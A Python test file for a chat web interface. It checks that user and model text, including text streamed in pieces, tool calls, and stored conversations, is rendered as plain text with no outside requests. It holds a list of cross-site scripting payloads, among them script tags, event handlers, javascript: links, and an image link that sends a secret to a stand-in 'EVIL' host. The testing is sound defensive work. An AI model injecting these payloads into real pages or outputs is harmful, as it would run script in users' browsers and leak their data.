"""What a user or a model says is text: it runs nothing, loads nothing, and leads nowhere it should not."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest
from aiohttp import web

from streamkit.testing import chunk, sse

from ..chromium import Browser
from ..relayed import site
from .chatting import answer_of, chat_over

#: EVIL stands for another site's address.
VECTORS = [
    "<script>document.title='pwned'</script><script src='EVIL/x.js'></script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    "<svg onload=\"document.title='pwned'\"><image href='EVIL/svg.png'/></svg>",
    "<iframe srcdoc=\"<script>parent.document.title='pwned'</script>\" src='EVIL/frame'></iframe>",
    "<a href=\"javascript:document.title='pwned'\" onclick=\"document.title='pwned'\">click</a>",
    "[click](javascript:document.title='pwned') [c](JaVaScRiPt&#58;alert(1)) [d](\x01javascript:alert(1)) [e](java\tscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <data:text/html,x> <vbscript:x>",
    "![picture](EVIL/exfil.png?q=SECRET) [![x](EVIL/in-link.png)](EVIL/)",
    "![a][1]\n\n[1]: EVIL/reference.png\n\n<img srcset='EVIL/set.png 1x'>",
    "<form action='EVIL/form'><input name=q autofocus onfocus=\"document.title='pwned'\"><button>Send</button></form>",
    "<meta http-equiv='refresh' content='0;url=EVIL/meta'><base href='EVIL/'>",
    "<style>@import 'EVIL/style.css'; body{background:url(EVIL/bg.png)}</style><link rel=stylesheet href='EVIL/l.css'>",
    "<object data='EVIL/object'></object><embed src='EVIL/embed'><video poster='EVIL/poster.png' src='EVIL/v.mp4'></video>",
    '```"><img src=x onerror=alert(1)>\n<b onmouseover=alert(1)>\n```\n\n| <img src=EVIL/cell.png> | ![](EVIL/t.png) |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
    '[x](EVIL/" onmouseover="alert(1)) `<img src=x onerror=alert(1)>` **<svg/onload=alert(1)>** http://x"onclick=alert(1)',
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62; {{constructor.constructor('alert(1)')()}}",
]


@asynccontextmanager
async def evil() -> AsyncIterator[tuple[str, list[str]]]:
    """Another site, and what it was asked for."""
    asked: list[str] = []

    async def answer(request: web.Request) -> web.Response:
        asked.append(request.path_qs)
        return web.Response(text="document.title = 'pwned'", content_type="text/javascript")

    app = web.Application()
    app.router.add_route("*", "/{path:.*}", answer)
    async with site(app) as url:
        yield url, asked


async def test_no_vector_does_anything_as_user_text_and_as_model_text(browser: Browser) -> None:
    async with evil() as (other, asked):
        texts = [vector.replace("EVIL", other) for vector in VECTORS]
        answers = [
            sse(chunk("", role="assistant"), chunk(reasoning_content=text), chunk(text), chunk(finish_reason="stop"))
            for text in texts
        ]
        async with chat_over(browser, *answers) as (chat, _, _, url):
            title = await chat.one("document.title")
            for text in texts:
                await chat.say(text)
                assert await chat.over() == "done"
                assert await chat.one("[...$ROOT.querySelectorAll('.user .body')].at(-1).textContent") == text.replace(
                    "\t", "\t"
                )
                assert await chat.one("$LAST.querySelector('.reasoning .plain').textContent") == text
            # Elements that were made by hand, and none that a text has asked for.
            names = set(
                await chat.one("[...new Set([...$ROOT.querySelectorAll('.message *')].map((one) => one.localName))]")
            )
            assert names <= {
                "a", "b", "br", "button", "code", "details", "div", "p", "pre", "span", "strong", "summary", "table",
                "tbody", "td", "th", "thead", "tr",
            }  # fmt: skip
            attributes = set(
                await chat.one("[...$ROOT.querySelectorAll('.message *')].flatMap((one) => one.getAttributeNames())")
            )
            assert attributes <= {
                "aria-busy", "aria-label", "class", "data-action", "dir", "hidden", "href", "part", "rel", "role", "tabindex",
                "target", "title", "type",
            }  # fmt: skip
            links = await chat.one(
                "[...$ROOT.querySelectorAll('.message a')].map((a) => [a.protocol, a.rel, a.target])"
            )
            assert links and {tuple(link) for link in links} == {("http:", "noopener noreferrer nofollow", "_blank")}
            await chat.page.reload()  # what was stored is shown in the same way
            await chat.until(f"$ROOT.querySelectorAll('.answer').length === {len(texts)}")
            assert await chat.one("document.title") == title
            assert [request for request in chat.page.requests if not request.startswith((url, "data:"))] == []
            assert chat.clean()
        assert asked == []


async def test_markup_that_comes_in_pieces_is_no_markup_either(browser: Browser) -> None:
    text = " ".join(VECTORS[:4]).replace("EVIL", "http://127.0.0.1:9")
    pieces = [chunk(character) for character in text]
    async with chat_over(browser, sse(*pieces, chunk(finish_reason="stop"))) as (chat, _, _, _):
        await chat.say("Hello")
        assert await chat.over() == "done"
        assert await chat.text() == text
        assert chat.clean()


async def test_the_title_and_the_tool_call_and_what_is_stored_are_text(browser: Browser) -> None:
    vector = "<img src=x onerror=\"document.title='pwned'\">"
    call = {"index": 0, "id": vector, "type": "function", "function": {"name": vector, "arguments": vector}}
    async with chat_over(
        browser, sse(chunk(tool_calls=[call]), chunk(finish_reason="tool_calls")), models=[vector, "b"]
    ) as (chat, _, _, _):
        await chat.say(vector)
        assert await chat.over() == "done"
        assert await chat.one("$LAST.querySelector('.tool pre').textContent") == vector
        assert await chat.conversations() == [vector]
        key = await chat.one("Object.keys(localStorage)[0]")
        bad: list[object] = [
            None,
            1,
            [],
            {},
            {"title": 1},
            {"title": "x", "updated": 1, "messages": [1]},
            {"title": "x", "updated": 1, "messages": [{}]},
        ]
        for place, value in enumerate(bad):
            await chat.one(f"localStorage.setItem({json.dumps(f'{key}{place}')}, {json.dumps(json.dumps(value))})")
        await chat.one(f"localStorage.setItem({json.dumps(f'{key}x')}, '{{')")
        await chat.page.reload()
        await chat.until("$LAST")
        assert await chat.conversations() == [vector]
        assert await chat.one("$ROOT.querySelectorAll('img').length") == 0
        assert chat.clean()


@pytest.mark.parametrize(
    "sink", ["innerHTML = '<b>x</b>'", "append(document.createRange().createContextualFragment('x'))"]
)
async def test_the_policy_lets_nobody_parse_html_in_the_page(browser: Browser, sink: str) -> None:
    """Were there a hole, the page's policy would stop it: this is what the other tests' `violations == []` stands on."""
    async with chat_over(browser, answer_of("x")) as (chat, _, _, _):
        await chat.one(f"import('/chat/dom.js').then(() => {{ try {{ document.body.{sink}; }} catch {{}} }})")
        await chat.one("new Promise((done) => setTimeout(done, 20))")
        assert [found[0] for found in chat.page.violations] == ["require-trusted-types-for"]
